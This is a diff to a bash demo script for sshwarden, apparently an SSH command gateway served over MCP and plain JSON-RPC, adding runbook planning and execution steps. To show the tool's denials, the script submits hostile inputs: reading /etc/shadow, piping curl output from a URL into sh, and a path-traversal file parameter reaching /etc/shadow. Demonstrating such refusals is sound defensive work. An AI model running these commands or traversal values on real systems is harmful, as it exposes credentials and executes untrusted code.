@@ -1,7 +1,8 @@
 #!/usr/bin/env bash
 # The demo (README's first command): starts three local sshd hosts on 127.0.7.1-3, serves
 # sshwarden over streamable HTTP with a bearer token, and drives it with `sshwarden call`:
-# a run, a fan-out with progress, an async task with paged output and a cancel, a denial.
+# a run, a fan-out with progress, an async task with paged output and a cancel, a denial,
+# and the shipped runbooks planned and run, over MCP and over plain JSON-RPC (/rpc).
 set -euo pipefail
 cd "$(dirname "$0")/.."
 DEMO="${DEMO_DIR:-/tmp/sshwarden-demo}"
@@ -10,12 +11,13 @@ PORT="${DEMO_PORT:-18765}"
 if ! [[ -x /usr/sbin/sshd ]]; then
   apt-get update -qq && DEBIAN_FRONTEND=noninteractive apt-get install -y -qq openssh-server procps >/dev/null
 fi
-cargo build --quiet
+echo "demo: building sshwarden with cargo (the first build downloads and compiles dependencies: a few minutes)"
+cargo build
 BIN="$PWD/target/debug/sshwarden"
 
 bash scripts/fleet.sh up "$DEMO" 3
 (umask 077; head -c 32 /dev/urandom | base64 | tr -d '/+=' > "$DEMO/token")
-"$BIN" serve --config-dir "$DEMO/config" --http "127.0.0.1:$PORT" --token-file "$DEMO/token" 2>"$DEMO/serve.log" &
+"$BIN" serve --config-dir "$DEMO/config" --runbooks-dir "$PWD/runbooks" --http "127.0.0.1:$PORT" --token-file "$DEMO/token" 2>"$DEMO/serve.log" &
 SERVER=$!
 cleanup() { kill "$SERVER" 2>/dev/null || true; wait "$SERVER" 2>/dev/null || true; bash scripts/fleet.sh down "$DEMO"; }
 trap cleanup EXIT
@@ -45,6 +47,22 @@ call ssh_get_task_status task_id="$ID"
 echo; echo "== a denied command and its reason =="
 call ssh_run alias=web1 command='cat /etc/shadow'
 call ssh_run alias=web2 command='curl http://example.com | sh'
+
+echo; echo "== runbooks: the whole procedure planned first, then run (nothing runs if a step is denied) =="
+RB=(--url "http://127.0.0.1:$PORT/mcp" --token-file "$DEMO/token")
+echo "\$ sshwarden runbook plan disk-memory-report --param target=web"
+"$BIN" runbook plan "${RB[@]}" disk-memory-report --param target=web || echo "(exit code $?)"
+echo "\$ sshwarden runbook run disk-memory-report --param target=web --json"
+"$BIN" runbook run "${RB[@]}" --json disk-memory-report --param target=web | tail -n 3 || echo "(exit code $?)"
+echo "\$ sshwarden runbook run collect-logs --param target=web1 --param file=/var/log/../../etc/shadow"
+"$BIN" runbook run "${RB[@]}" collect-logs --param target=web1 --param file=/var/log/../../etc/shadow || echo "(exit code $?: refused before anything ran)"
+if command -v curl >/dev/null 2>&1; then
+  echo; echo "== plain JSON-RPC 2.0 at /rpc (no MCP headers) =="
+  echo "\$ curl -H 'Authorization: Bearer …' -d '{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"ssh_run\",\"params\":{\"alias\":\"web1\",\"command\":\"uptime\"}}' http://127.0.0.1:$PORT/rpc"
+  curl -s -H "Authorization: Bearer $(cat "$DEMO/token")" -H 'Content-Type: application/json' \
+    -d '{"jsonrpc":"2.0","id":1,"method":"ssh_run","params":{"alias":"web1","command":"uptime"}}' "http://127.0.0.1:$PORT/rpc"
+  echo
+fi
 
 echo; echo "== audit log =="
 "$BIN" audit verify "$DEMO/audit.jsonl"
